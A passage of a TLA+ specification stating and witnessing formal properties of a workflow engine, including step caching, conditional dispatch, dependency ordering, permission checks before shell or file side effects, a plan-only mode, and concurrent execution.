\* none; the one thing its execution may do to the cache is to drop the
\* expired entry under the step's own key.  Every entry that is created or
\* overwritten holds the outputs of a result recorded as COMPLETED in the
\* same step, for a cache-enabled step with that key.
C33_FailedStepAddsNoEntry ==
    [][/\ \A r \in Runs : \A i \in DOMAIN workflow.steps :
            RecordedNow(r, i, "FAILED")
            => /\ DOMAIN step_cache' \subseteq DOMAIN step_cache
               /\ \A k \in DOMAIN step_cache' : step_cache'[k] = step_cache[k]
               /\ \A k \in DOMAIN step_cache \ DOMAIN step_cache' :
                     /\ k = generate_cache_key(StepAt(i), run[r].inputs)
                     /\ cache_expired(step_cache[k], now)
       /\ \A k \in DOMAIN step_cache' :
            (k \notin DOMAIN step_cache \/ step_cache'[k] # step_cache[k])
            => \E r \in Runs : \E i \in DOMAIN workflow.steps :
                  /\ RecordedNow(r, i, "COMPLETED")
                  /\ StepAt(i).cache_enabled
                  /\ ~records'[r].step_results[StepAt(i).id].cached
                  /\ k = generate_cache_key(StepAt(i), run[r].inputs)
                  /\ step_cache'[k].outputs
                        = records'[r].step_results[StepAt(i).id].outputs]_vars

\* A cache-enabled step has ended FAILED beside an entry cached earlier, and
\* no entry stands under the failed step's key.
C33_Witness ==
    \E r \in Runs : \E i \in DOMAIN workflow.steps :
        /\ Recorded(r, i)
        /\ Results(r)[StepAt(i).id].status = "FAILED"
        /\ StepAt(i).cache_enabled
        /\ StepAt(i).id \in run[r].executed
        /\ generate_cache_key(StepAt(i), run[r].inputs) \notin DOMAIN step_cache
        /\ DOMAIN step_cache # {}

-----------------------------------------------------------------------------
(* Properties of the engine: step types *)

\* The step types of the definition model that the claim names.
StepTypes == {"shell", "assert", "template", "webhook", "conditional"}

NestedIds(steps) == {steps[k].id : k \in DOMAIN steps}

\* C34 as stated: no step of the five types ends FAILED because its type is
\* unsupported, and a recorded conditional step has run the steps of its
\* then list when its condition is true, of its else list when it is false,
\* and none of the other list.
C34_EveryTypeDispatched ==
    \A r \in Runs : \A i \in DOMAIN workflow.steps :
        (Recorded(r, i) /\ StepAt(i).type \in StepTypes)
        => /\ Results(r)[StepAt(i).id].error # "Unsupported step type"
           /\ StepAt(i).type = "conditional"
              => LET holds == evaluate_condition(StepAt(i).condition) = "True"
                     taken == IF holds THEN StepAt(i).then_steps
                              ELSE StepAt(i).else_steps
                     left  == IF holds THEN StepAt(i).else_steps
                              ELSE StepAt(i).then_steps
                 IN /\ NestedIds(taken) \subseteq run[r].executed
                    /\ NestedIds(left) \cap run[r].executed = {}

-----------------------------------------------------------------------------
(* Properties of the engine: steps whose cache policy is disabled *)

\* The step types _execute_step_securely has an executor for.
ExecutorTypes == {"shell", "assert", "template"}

\* C35: a step whose cache policy has enabled = false is never served from
\* the step cache and never changes it: whatever a run does while such a step
\* is its current step leaves the cache as it was, the step's recorded result
\* is not a cached one, and when the step's gate passes its executor was
\* invoked for it.
C35_DisabledStepBypassesCache ==
    /\ [](\A r \in Runs : \A i \in DOMAIN workflow.steps :
            (~StepAt(i).cache_enabled /\ Recorded(r, i))
            => /\ ~Results(r)[StepAt(i).id].cached
               /\ (GatePasses(StepAt(i)) /\ StepAt(i).type \in ExecutorTypes)
                  => StepAt(i).id \in run[r].executed)
    /\ [][\A r \in Runs :
            (/\ InFlight(r)
             /\ ~StepAt(run[r].next).cache_enabled
             /\ run'[r] # run[r])
            => step_cache' = step_cache]_vars

\* A step with the cache disabled has run to COMPLETED beside a cache that
\* holds an entry of another step.
C35_Witness ==
    \E r \in Runs : \E i \in DOMAIN workflow.steps :
        /\ ~StepAt(i).cache_enabled
        /\ Recorded(r, i)
        /\ Results(r)[StepAt(i).id].status = "COMPLETED"
        /\ StepAt(i).id \in run[r].spawned
        /\ DOMAIN step_cache # {}

-----------------------------------------------------------------------------
(* Properties of WorkflowEngine.execute_workflow *)

\* C36 as stated: a step is started only when the run's context holds a
\* recorded result for every step of its depends_on, in runs from the first
\* step and in runs entered through resume_from_step alike.
C36_DependenciesRecorded ==
    [][\A id \in StepIds :
          (id \notin execution.executed /\ id \in execution'.executed)
          => step_by_id(parse_result.steps, id).depends_on
                \subseteq DOMAIN execution.steps]_vars

-----------------------------------------------------------------------------
(* Properties of the engine: permissions of the step executors *)

\* The SecurityContext holds neither the permission nor admin.
Lacks(permissions, permission) ==
    permission \notin permissions /\ "admin" \notin permissions

\* C37: no subprocess is created in a run whose caller lacks shell.execute
\* and no file is written in a run whose caller lacks file.write: a shell or
\* template step reached by such a run ends FAILED with the permission error.
C37_PermissionBeforeSideEffect ==
    \A r \in Runs :
        /\ Lacks(run[r].permissions, "shell.execute")
           => /\ run[r].spawned = {} /\ run[r].commands = {}
              /\ \A i \in DOMAIN workflow.steps :
                    (StepAt(i).type = "shell" /\ StepAt(i).id \in run[r].executed
                        /\ Recorded(r, i))
                    => Results(r)[StepAt(i).id].status = "FAILED"
        /\ Lacks(run[r].permissions, "file.write")
           => /\ run[r].written = {}
              /\ \A i \in DOMAIN workflow.steps :
                    (StepAt(i).type = "template" /\ StepAt(i).id \in run[r].executed
                        /\ Recorded(r, i))
                    => Results(r)[StepAt(i).id].status = "FAILED"

\* A caller allowed to execute workflows but neither shell commands nor file
\* writes has reached a shell step, which failed on the permission check.
C37_Witness ==
    \E r \in Runs : \E i \in DOMAIN workflow.steps :
        /\ run[r].permissions = {"workflow.execute"}
        /\ StepAt(i).type = "shell"
        /\ StepAt(i).id \in run[r].executed
        /\ Recorded(r, i)
        /\ Results(r)[StepAt(i).id].error
              = "User lacks permission to execute shell commands"

-----------------------------------------------------------------------------
(* Properties of the engine: the plan_only profile *)

\* C38 as stated: on an engine whose profile sets allow_execution to False no
\* run executes a step: no executor is invoked, no subprocess is created and
\* no file is written.
C38_PlanOnlyNeverExecutes ==
    ~allow_execution(security_profile)
    => \A r \in Runs :
          /\ run[r].executed = {}
          /\ run[r].spawned = {}
          /\ run[r].written = {}

-----------------------------------------------------------------------------
(* Properties of the engine: allocations of concurrent executions *)

\* The runs between their successful allocate_resources and their
\* release_resources.
InFlightRuns == {r \in Runs : InFlight(r)}

\* C39 as stated: every execution in flight is counted and keeps its own
\* allocation and execution record: active_workflows has as many entries as
\* there are executions in flight, whatever ids the callers brought.
C39_AllocationsCounted ==
    /\ Cardinality(active_workflows) + other_active = Cardinality(InFlightRuns)
    /\ \A r \in InFlightRuns :
          /\ run[r].execution_id \in active_workflows
          /\ executions[run[r].execution_id] = r

-----------------------------------------------------------------------------
(* Properties of the engine: concurrent executions and the step cache *)

\* Run q has the executor of step i in flight: it awaits the step's subprocess.
ExecutorInFlight(q, i) == run[q].pc = "awaiting" /\ run[q].next = i

\* C40 as stated: of two executions that are on the same cache-enabled step
\* with the same cache key at the same time only one invokes the step's
\* executor: no run starts the executor while another run has it in flight
\* under the same key (the later one is to get the cached outputs).
C40_ExecutorInvokedOnce ==
    [][\A r, q \in Runs : \A i \in DOMAIN workflow.steps :
          (/\ r # q
           /\ StepAt(i).cache_enabled
           /\ ExecutorInFlight(q, i)
           /\ run[r].pc = "running" /\ run[r].next = i
           /\ generate_cache_key(StepAt(i), run[r].inputs)
                 = generate_cache_key(StepAt(i), run[q].inputs))
          => StepAt(i).id \notin run'[r].executed]_vars

====
